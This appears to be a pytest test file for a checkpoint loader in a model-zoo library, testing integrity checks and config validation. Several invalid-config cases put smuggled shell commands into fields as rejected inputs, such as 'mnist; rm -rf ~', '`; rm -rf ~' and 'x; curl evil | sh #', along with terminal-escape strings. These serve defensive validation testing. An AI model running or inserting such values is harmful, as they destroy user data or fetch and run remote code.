"""Checkpoints: a written checkpoint is read back unchanged, and files that differ in anything are refused."""

from __future__ import annotations

import functools
import json
import os
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from samples import facts_of, publish, registered_tiny, trained
from torch import Tensor, nn

import cnvzoo
from cnvzoo.checkpoints.folder import preprocessing_from, read_config, read_model, write_checkpoint, write_config
from cnvzoo.checkpoints.format import CheckpointError, FileFacts
from cnvzoo.checkpoints.load import load_checkpoint
from cnvzoo.checkpoints.save import write_card
from cnvzoo.checkpoints.verify import verify
from cnvzoo.files import sha256_of
from cnvzoo.models import register_model

ROOT = Path(__file__).resolve().parents[2]

FLOAT = {"name": "resnet20", "num_classes": 10, "in_chans": 1}
QUANTIZED = {"name": "quant_cnv", "num_classes": 7, "in_chans": 3, "w_bits": 2, "a_bits": 3, "first_w_bits": 4}


def images(in_chans: int) -> Tensor:
    return torch.randint(256, (4, in_chans, 32, 32), generator=torch.Generator().manual_seed(1)) / 255


@functools.cache
def sample(arguments: str) -> tuple[nn.Module, dict[str, bytes]]:
    """A model, and the files of its checkpoint."""
    with tempfile.TemporaryDirectory() as scratch:
        model = trained(json.loads(arguments))
        publish(Path(scratch) / "c", model, json.loads(arguments))
        return model, {path.name: path.read_bytes() for path in (Path(scratch) / "c").iterdir()}


def written(folder: Path, arguments: dict[str, Any]) -> nn.Module:
    model, files = sample(json.dumps(arguments))
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return model


def rewritten(folder: Path, changed: dict[str, Tensor | None], metadata: dict[str, str] | None = None) -> None:
    """Replace tensors of a checkpoint, or remove those that are None; its config is adapted to the new file."""
    path = folder / "model.safetensors"
    with safe_open(path, "pt") as file:
        metadata = file.metadata() if metadata is None else metadata
    tensors = {**load_file(path), **changed}
    save_file({name: tensor for name, tensor in tensors.items() if tensor is not None}, path, metadata)
    config = json.loads((folder / "config.json").read_text())
    config["file"] = {"sha256": sha256_of(path), "size": path.stat().st_size}
    (folder / "config.json").write_text(json.dumps(config))


def rewritten_config(folder: Path, **changes: Any) -> None:
    path = folder / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def message_of_refusal(folder: Path) -> str:
    with pytest.raises(CheckpointError) as caught:
        load_checkpoint(folder)
    return str(caught.value)


@pytest.mark.parametrize("arguments", [FLOAT, QUANTIZED], ids=["float", "quantized"])
def test_round_trip(tmp_path: Path, arguments: dict[str, Any]) -> None:
    folder = tmp_path / "hub" / "tag.shapes"
    model = written(folder, arguments)
    assert sorted(path.name for path in folder.iterdir()) == ["config.json", "model.safetensors"]
    torch.manual_seed(99)
    loaded, config = cnvzoo.load_checkpoint(folder)
    assert not loaded.training
    with torch.no_grad():
        logits = model(images(arguments["in_chans"]))
        assert torch.equal(loaded(images(arguments["in_chans"])), logits)
    assert logits.std() > 0
    assert config.file.sha256 == sha256_of(folder / "model.safetensors")
    assert config.accuracy == 91.23
    assert loaded.pretrained_cfg is config
    preprocessing = preprocessing_from(config)
    assert (preprocessing.size, preprocessing.native_size, preprocessing.in_chans) == (32, 28, arguments["in_chans"])
    assert set(preprocessing.mean) == {0.5}


def test_the_config_is_indented_json(tmp_path: Path) -> None:
    written(tmp_path / "c", QUANTIZED)
    text = (tmp_path / "c" / "config.json").read_text()
    assert json.loads(text)["model"] == QUANTIZED
    assert len(text.splitlines()) > 20


@pytest.mark.parametrize("where", [10, -1, -1000])
def test_a_flipped_bit_is_refused(tmp_path: Path, where: int) -> None:
    written(tmp_path / "c", FLOAT)
    path = tmp_path / "c" / "model.safetensors"
    content = bytearray(path.read_bytes())
    content[where] ^= 1
    path.write_bytes(content)
    message = message_of_refusal(tmp_path / "c")
    assert str(path) in message
    assert "sha256" in message
    assert "damaged" in message


@pytest.mark.parametrize("change", [-4, 4])
def test_another_size_is_refused(tmp_path: Path, change: int) -> None:
    written(tmp_path / "c", FLOAT)
    path = tmp_path / "c" / "model.safetensors"
    size = path.stat().st_size
    path.write_bytes((path.read_bytes() + bytes(4))[: size + change])
    message = message_of_refusal(tmp_path / "c")
    assert str(path) in message
    assert f"expected {size:,} bytes" in message


def test_a_file_is_not_read_where_its_size_is_wrong(tmp_path: Path) -> None:
    """A sparse file of a terabyte, and a named pipe in place of a file, are refused without being read."""
    written(tmp_path / "c", FLOAT)
    for name in ("model.safetensors", "config.json"):
        path = tmp_path / "c" / name
        with path.open("r+b") as file:
            file.truncate(1 << 40)
        assert str(path) in message_of_refusal(tmp_path / "c")
        path.unlink()
        os.mkfifo(path)
        assert f"{path}: not a regular file" in message_of_refusal(tmp_path / "c")
        path.unlink()
        written(tmp_path / "c", FLOAT)


def test_a_header_is_not_parsed_where_its_length_is_wrong(tmp_path: Path) -> None:
    written(tmp_path / "c", FLOAT)
    path = tmp_path / "c" / "model.safetensors"
    path.write_bytes((100 << 20).to_bytes(8, "little") + b" " * (101 << 20))
    rewritten_config(tmp_path / "c", file={"sha256": sha256_of(path), "size": path.stat().st_size})
    assert "a header of 104,857,600 bytes" in message_of_refusal(tmp_path / "c")


def test_missing_files_are_named(tmp_path: Path) -> None:
    written(tmp_path / "c", FLOAT)
    (tmp_path / "c" / "model.safetensors").unlink()
    assert str(tmp_path / "c" / "model.safetensors") in message_of_refusal(tmp_path / "c")
    (tmp_path / "c" / "config.json").unlink()
    message = message_of_refusal(tmp_path / "c")
    assert str(tmp_path / "c" / "config.json") in message
    assert "checkpoint folder" in message
    assert "no-such" in message_of_refusal(tmp_path / "no-such")
    (tmp_path / "file").touch()
    assert "file" in message_of_refusal(tmp_path / "file")


@pytest.mark.parametrize(
    ("change", "names"),
    [
        ({"total": 0}, "total"),
        ({"correct": -1}, "correct"),
        ({"weights_sha256": "abc"}, "weights_sha256"),
        ({"classes": None}, "classes"),
        ({"classes": ["one"]}, "num_classes: 10, where classes and preprocessing have 1"),
        ({"acuracy": 99.0}, "acuracy"),
        ({"correct": 9000}, "results: must have seed 1 once"),
        ({"results": []}, "results"),
        ({"format_version": 2}, "format_version: 2, and this cnvzoo reads 1: install a matching version"),
        ({"name": "../elsewhere"}, "name"),
        ({"preprocessing": {"size": 32}}, "preprocessing"),
        ({"preprocessing": {"size": "32", "mean": [0.0], "std": [1.0]}}, "preprocessing"),
        *[
            ({"preprocessing": {"size": 32, "mean": [0.5], "std": [0.25], "image_size": 28} | change}, names)
            for change, names in (
                ({"size": 100_000}, "size"),
                ({"size": 1025}, "size"),
                ({"size": 0}, "size"),
                ({"size": True}, "size"),
                ({"size": 66}, "size: 66, more than twice the side of the images, image_size 28"),
                ({"image_size": 100_000}, "image_size"),
                ({"mean": []}, "mean"),
                ({"mean": "1"}, "mean"),
                ({"mean": [0.5] * 2, "std": [0.25] * 2}, "one value per channel"),
                ({"mean": [0.5] * 4, "std": [0.25] * 4}, "mean"),
                ({"mean": [float("nan")]}, "mean.0"),
                ({"mean": [1e300]}, "mean.0"),
                ({"std": [0.0]}, "std.0"),
                ({"std": [float("inf")]}, "std.0"),
                ({"std": [1e-50]}, "std.0"),  # 0 in float32
                ({"crop": 1}, "crop"),
            )
        ],
        ({"classes": [""] * 10}, "classes.0"),
        ({"classes": ["a\nb"] * 10}, "classes.0: 'a\\nb' has a character that cannot be printed"),
        ({"classes": ["\x1b[2J"] * 10}, "classes.0"),
        ({"classes": ["\u202e"] * 10}, "classes.0"),
        ({"classes": ["x" * 201] * 10}, "classes.0: a text of 201 characters, where 200 are allowed"),
        ({"classes": ["x"] * 10_001}, "classes"),
        ({"dataset": "mnist; rm -rf ~"}, "dataset"),
        ({"dataset": "-h"}, "dataset"),
        ({"dataset": ""}, "dataset"),
        ({"commit": "`; rm -rf ~"}, "commit"),
        ({"commit": "abcd\n"}, "commit"),
        ({"commit": "--help"}, "commit"),
        ({"commit": "ABCDEF"}, "commit"),
        ({"commit": "abcdef++"}, "commit"),
        ({"recipe": {"name": "x; curl evil | sh #"}}, "recipe: name: 'x; curl evil | sh #' is not a name"),
        ({"recipe": {"name": "x\n"}}, "recipe"),
        ({"recipe": {"name": None}}, "recipe: name"),
        ({"recipe": {"name": "x", "note": "a\n```\nb"}}, "recipe: note"),
        ({"recipe": {"name": "x", "a b": 1}}, "recipe: 'a b' is not a key"),
        ({"recipe": {"a": [{"b": "\x00"}]}}, "recipe: a.0.b"),
        ({"recipe": {"a": [[[[[[1]]]]]]}}, "recipe: a.0.0.0.0.0: nested too deep"),
        ({"recipe": {"lr": float("inf")}}, "recipe: lr: not a finite number"),
        ({"recipe": {"lr": -(10**4000)}}, "recipe: lr: a whole number beyond 2^53"),
        ({"versions": {"torch": "2.11; id"}}, "versions.torch"),
        ({"versions": {"torch\n": "2.11"}}, "versions"),
        ({"device": {"kind": "cpu", "threads": "1; id"}}, "device: threads"),
        ({"device": {"kind": "cpu", "threads": 0}}, "device: threads"),
        ({"device": {"name": "a\nb"}}, "device: name"),
        ({"device": {"name": {"a": "b"}}}, "device: name"),
        ({"model": FLOAT | {"name": "a`b"}}, "model"),
        ({"model": FLOAT | {"w_bits": "4 | 5\n"}}, "model: w_bits"),
        ({"seed": 10**400}, "seed"),
        ({"recipes_scored": 0}, "recipes_scored"),
        ({"numerics": 0}, "numerics"),
        ({"numerics": 2}, "results: must have seed 1 once"),
        ({"file": {"sha256": "0" * 64, "size": 1 << 40}}, "file.size"),
        ({"file": {"sha256": "0" * 63 + "g", "size": 5}}, "file.sha256"),
    ],
)
def test_invalid_config_names_file_and_key(tmp_path: Path, change: dict[str, Any], names: str) -> None:
    written(tmp_path / "c", FLOAT)
    path = tmp_path / "c" / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with pytest.raises(CheckpointError) as caught:
        read_config(tmp_path / "c")
    assert str(path) in str(caught.value)
    assert names in str(caught.value)


@pytest.mark.parametrize(
    "change",
    [
        {"commit": "0123abcd+", "dataset": "My-data_2.1", "seed": 1},
        {"commit": "0" * 64, "device": {}, "versions": {}, "recipe": {}},
        {"classes": ["T-shirt/top", "naïve", "犬", "a|b", "`", "$x$", "#1", "x" * 200, "<b>", " "]},
        {"preprocessing": {"size": 1024, "mean": [0], "std": [1]}},
        {"preprocessing": {"size": 1, "mean": [-1.5], "std": [0.00392], "image_size": 1}},
        {"versions": {"python": "3.12.0rc1", "torch": "2.15.0.dev20261101+cu130", "cudnn": "91900"}},
        {"device": {"kind": "cpu", "name": "Intel(R) Xeon(R) CPU @ 2.20GHz", "threads": 64, "capability": None}},
    ],
)
def test_unusual_but_valid_configs_are_read(tmp_path: Path, change: dict[str, Any]) -> None:
    written(tmp_path / "c", FLOAT)
    rewritten_config(tmp_path / "c", **change)
    config = read_config(tmp_path / "c").model_dump(mode="json")
    assert {key: config[key] for key in change} == change


def test_a_config_written_before_the_keys_recipes_scored_and_numerics_is_read(tmp_path: Path) -> None:
    written(tmp_path / "c", FLOAT)
    config = json.loads((tmp_path / "c" / "config.json").read_text())
    assert config["recipes_scored"] is config["numerics"] is config["results"][0]["numerics"] is None
    for section in (config, *config["results"]):
        section.pop("recipes_scored", None)
        del section["numerics"]
    (tmp_path / "c" / "config.json").write_text(json.dumps(config))
    read = read_config(tmp_path / "c")
    assert read.recipes_scored is read.numerics is read.results[0].numerics is None


@pytest.mark.parametrize(
    "path", sorted((ROOT / "hub").glob("*/config.json")), ids=lambda path: path.parent.name
)  # fmt: skip
def test_a_published_config_is_unchanged_when_it_is_written_again(tmp_path: Path, path: Path) -> None:
    write_config(tmp_path, read_config(path.parent))
    before = json.loads(path.read_text())
    assert json.loads((tmp_path / "config.json").read_text()) == {"integer": None} | before
    if "integer" in before:  # one is older than that key
        assert (tmp_path / "config.json").read_bytes() == path.read_bytes()


@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b"[]", b"[" * 100_000, b'{"seed": %s}' % (b"9" * 9999)])
def test_a_config_that_is_not_a_json_object_is_refused(tmp_path: Path, content: bytes) -> None:
    written(tmp_path / "c", FLOAT)
    (tmp_path / "c" / "config.json").write_bytes(content)
    assert str(tmp_path / "c" / "config.json") in message_of_refusal(tmp_path / "c")


@pytest.mark.parametrize(
    ("changed", "names"),
    [
        ({"extra.weight": torch.zeros(3)}, "unexpected extra.weight"),
        ({"norm.bias": None}, "missing norm.bias"),
        ({"fc.weight": torch.zeros(11, 64)}, "fc.weight: float32 [11, 64], not float32 [10, 64]"),
        ({"fc.weight": torch.zeros(10, 64).half()}, "fc.weight: float16 [10, 64], not float32"),
        ({"norm.num_batches_tracked": torch.tensor(3.0)}, "norm.num_batches_tracked: float32 [], not int64 []"),
        ({"fc.bias": torch.full((10,), torch.nan)}, "fc.bias: values that are not finite"),
        ({"norm.bias": None, "extra": torch.zeros(1)}, "missing norm.bias; unexpected extra"),
    ],
)
def test_tensors_that_do_not_fit_the_model_are_named(
    tmp_path: Path, changed: dict[str, Tensor | None], names: str
) -> None:
    written(tmp_path / "c", FLOAT)
    rewritten(tmp_path / "c", changed)
    message = message_of_refusal(tmp_path / "c")
    assert str(tmp_path / "c" / "model.safetensors") in message
    assert names in message


PACKED = {
    "conv.weight": {"bits": 3, "signed": True, "shape": [5, 1, 3, 3]},
    "fc.weight": {"bits": 3, "signed": True, "shape": [3, 5]},
}
SCALE = "fc.weight_quant.tensor_quant.scale"


@pytest.mark.parametrize(
    ("changed", "packed", "names"),
    [
        ({SCALE: None}, PACKED, f"missing {SCALE}"),
        ({SCALE: torch.tensor(0.0)}, PACKED, f"{SCALE}: below the smallest scale"),
        ({SCALE: torch.tensor(-0.1)}, PACKED, f"{SCALE}: below the smallest scale"),
        ({"fc.weight": torch.zeros(3, 5)}, PACKED, "fc.weight: float32 [3, 5], not uint8 [6]"),
        ({"fc.weight": torch.zeros(7, dtype=torch.uint8)}, PACKED, "fc.weight: uint8 [7], not uint8 [6]"),
        ({"fc.weight": torch.full((6,), 255, dtype=torch.uint8)}, PACKED, "fc.weight: the bits after the last value"),
        ({"fc.weight": torch.tensor([4, 0, 0, 0, 0, 0], dtype=torch.uint8)}, PACKED, "fc.weight: a value below -3"),
        ({"norm.num_batches_tracked": torch.tensor(3)}, PACKED, "unexpected norm.num_batches_tracked"),
        ({}, {}, "conv.weight: packed as nothing, not 3 bits [5, 1, 3, 3]"),
        ({}, {**PACKED, "norm.bias": PACKED["fc.weight"]}, "norm.bias: packed as 3 bits [3, 5], not nothing"),
        ({}, {**PACKED, "fc.weight": {"bits": 2, "signed": True, "shape": [3, 5]}}, "fc.weight: packed as 2 bits"),
        ({}, {**PACKED, "fc.weight": {"bits": 3, "signed": True, "shape": [5, 3]}}, "not 3 bits [3, 5]"),
        ({}, {**PACKED, "fc.weight": {"bits": 3, "signed": False, "shape": [3, 5]}}, "packed: fc.weight.signed"),
        ({}, {**PACKED, "fc.weight": {"bits": 9, "signed": True, "shape": [3, 5]}}, "packed: fc.weight.bits"),
        ({}, {**PACKED, "fc.weight": 3}, "packed: fc.weight"),
    ],
)
def test_packed_tensors_that_do_not_fit_the_model_are_named(
    tmp_path: Path, changed: dict[str, Tensor | None], packed: dict[str, Any], names: str
) -> None:
    with registered_tiny() as arguments:
        written(tmp_path / "c", arguments)
        rewritten(tmp_path / "c", changed, {"packed": json.dumps(packed)})
        message = message_of_refusal(tmp_path / "c")
    assert str(tmp_path / "c" / "model.safetensors") in message
    assert names in message


def test_weights_that_do_not_fit_the_model_are_not_written(tmp_path: Path) -> None:
    """So every checkpoint that is published can be loaded."""
    model = trained(FLOAT)
    model.norm.register_buffer("extra", torch.zeros(1))  # type: ignore[union-attr]
    with pytest.raises(CheckpointError, match=r"run\.safetensors: not the weights of .*unexpected norm\.extra"):
        publish(tmp_path / "c", model, FLOAT)
    assert not (tmp_path / "c").exists()


def test_after_refused_weights_the_old_checkpoint_is_unchanged(tmp_path: Path) -> None:
    written(tmp_path / "c", FLOAT)
    files = {path.name: path.read_bytes() for path in (tmp_path / "c").iterdir()}
    save_file({"another": torch.zeros(1)}, tmp_path / "other.safetensors")
    with pytest.raises(CheckpointError, match=r"other\.safetensors: expected sha256"):
        write_checkpoint(tmp_path / "c", facts_of(FLOAT, "0" * 64), tmp_path / "other.safetensors")
    with pytest.raises(CheckpointError, match=r"none\.safetensors"):
        write_checkpoint(tmp_path / "c", facts_of(FLOAT, "0" * 64), tmp_path / "none.safetensors")
    assert {path.name: path.read_bytes() for path in (tmp_path / "c").iterdir()} == files


@pytest.mark.parametrize("content", [b"", b"1234567", b"\x80\x04 not safetensors", bytes(100), b"\xff" * 100])
def test_weights_that_are_not_a_safetensors_file_are_refused(tmp_path: Path, content: bytes) -> None:
    written(tmp_path / "c", FLOAT)
    path = tmp_path / "c" / "model.safetensors"
    path.write_bytes(content)
    rewritten_config(tmp_path / "c", file={"sha256": sha256_of(path), "size": len(content)})
    message = message_of_refusal(tmp_path / "c")
    assert f"{path}: " in message
    assert "safetensors file" in message


@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
def test_a_published_checkpoint_with_other_files_is_refused(tmp_path: Path, name: str) -> None:
    """A config and weights that fit each other are refused if the index has other checksums for them."""
    written(tmp_path / "c", FLOAT)
    files = {path.name: FileFacts.of(path.read_bytes()) for path in (tmp_path / "c").iterdir()}
    read_model(tmp_path / "c", files)
    rewritten(tmp_path / "c", {"fc.bias": torch.ones(10)})
    load_checkpoint(tmp_path / "c")
    with pytest.raises(CheckpointError, match=r"sha256|expected") as caught:
        read_model(tmp_path / "c", files)
    assert str(tmp_path / "c" / "config.json") in str(caught.value)


def test_a_model_whose_builder_computes_with_values_can_be_loaded(tmp_path: Path) -> None:
    """Shapes are usually compared on a model on the meta device, where a builder that reads values fails."""

    class ReadsValues(nn.Module):
        def __init__(self, num_classes: int, in_chans: int) -> None:
            super().__init__()
            self.rates = [float(rate) for rate in torch.linspace(0, 1, 3)]
            self.fc = nn.Linear(in_chans, num_classes)

    with registered_tiny():
        register_model("looks", summary="of tests")(ReadsValues)
        arguments = {"name": "looks", "num_classes": 2, "in_chans": 1}
        model = written(tmp_path / "c", arguments)
        assert torch.equal(
            load_checkpoint(tmp_path / "c")[0].state_dict()["fc.weight"], model.state_dict()["fc.weight"]
        )


@pytest.mark.parametrize("error", [ValueError, KeyError, NotImplementedError])
def test_a_mistake_in_a_builder_of_ones_own_is_one_line(tmp_path: Path, error: type[Exception]) -> None:
    broken = False

    def build(num_classes: int, in_chans: int) -> nn.Module:
        if broken:
            raise error("width")
        return nn.Sequential(nn.Flatten(), nn.Linear(in_chans * 1024, num_classes))

    with registered_tiny():
        register_model("own", summary="of tests")(build)
        written(tmp_path / "c", {"name": "own", "num_classes": 10, "in_chans": 1})
        broken = True
        says = rf"its model cannot be built: {error.__name__}: '?width'? \(test_checkpoint\.py, line \d+\)$"
        for function in (load_checkpoint, write_card):
            with pytest.raises(CheckpointError, match=says):
                function(tmp_path / "c")
        (verification,) = verify(tmp_path / "c")
        assert re.search(says, verification.problem or "")


@pytest.mark.parametrize(
    ("model", "said"),
    [
        ({"num_classes": 10}, "name"),
        ({**FLOAT, "num_classes": "ten"}, "num_classes: 'ten', where classes and preprocessing have 10"),
        ({**FLOAT, "num_classes": 10.0}, "cannot be built: num_classes=10.0 is not a whole number"),
        ({**FLOAT, "name": "resnet21"}, "unknown model 'resnet21': did you mean"),
        ({**FLOAT, "w_bits": 4}, "is a float model"),
    ],
)
def test_a_model_that_cannot_be_built_is_refused_naming_the_file(
    tmp_path: Path, model: dict[str, Any], said: str
) -> None:
    folder = tmp_path / "c"
    written(folder, FLOAT)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps(config | {"model": model}))
    assert said in message_of_refusal(folder)
    assert str(folder / "config.json") in message_of_refusal(folder)
